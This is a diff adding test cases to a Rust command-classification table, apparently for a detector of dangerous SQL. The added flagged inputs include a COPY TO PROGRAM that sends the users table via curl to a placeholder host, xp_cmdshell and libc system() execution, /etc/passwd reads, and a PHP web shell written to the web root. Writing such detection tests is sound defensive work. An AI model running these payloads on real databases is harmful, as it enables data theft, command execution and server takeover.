@@ -1909,6 +1909,56 @@ fn commands_table() {
             "",
         ),
         (
+            "sql_runs_program",
+            "COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- https://x.example/c'",
+            "",
+        ),
+        (
+            "sql_runs_program",
+            "CREATE TABLE o(x text); copy o from program 'id'",
+            "",
+        ),
+        (
+            "sql_runs_program",
+            "EXEC xp_cmdshell 'whoami'",
+            "",
+        ),
+        (
+            "sql_runs_program",
+            "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;",
+            "",
+        ),
+        (
+            "sql_runs_program",
+            "CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6', 'system' LANGUAGE C STRICT",
+            "",
+        ),
+        (
+            "sql_runs_program",
+            "SELECT sys_exec('id > /tmp/o')",
+            "",
+        ),
+        (
+            "sql_server_files",
+            "SELECT LOAD_FILE('/etc/passwd')",
+            "",
+        ),
+        (
+            "sql_server_files",
+            "SELECT '<?php system($_GET[\"c\"]); ?>' INTO OUTFILE '/var/www/html/s.php'",
+            "",
+        ),
+        (
+            "sql_server_files",
+            "SELECT pg_read_file('/etc/passwd')",
+            "",
+        ),
+        (
+            "sql_server_files",
+            "SELECT lo_export(16409, '/tmp/k')",
+            "",
+        ),
+        (
             "git_config_runs_program",
             "echo '[core] sshCommand = sh /tmp/s' >> ~/.gitconfig",
             "",
@@ -1945,6 +1995,11 @@ fn commands_table() {
         "cat /etc/ld.so.preload",
         "cat .git/config",
         "ALTER ROLE app NOSUPERUSER;",
+        "COPY (SELECT * FROM orders) TO STDOUT WITH CSV HEADER",
+        "\\copy orders to 'orders.csv' csv header",
+        "CREATE FUNCTION add(a int, b int) RETURNS int AS $$ SELECT a + b $$ LANGUAGE SQL",
+        "SELECT program, language FROM courses",
+        "SELECT * FROM files WHERE name = 'load_file'",
         "cp .git/config /tmp/config.bak",
         "echo '[user] name = Dana' >> ~/.gitconfig",
         "scp -i ~/.ssh/id_rsa dist/app.tgz deploy@staging.example.com:/srv/",
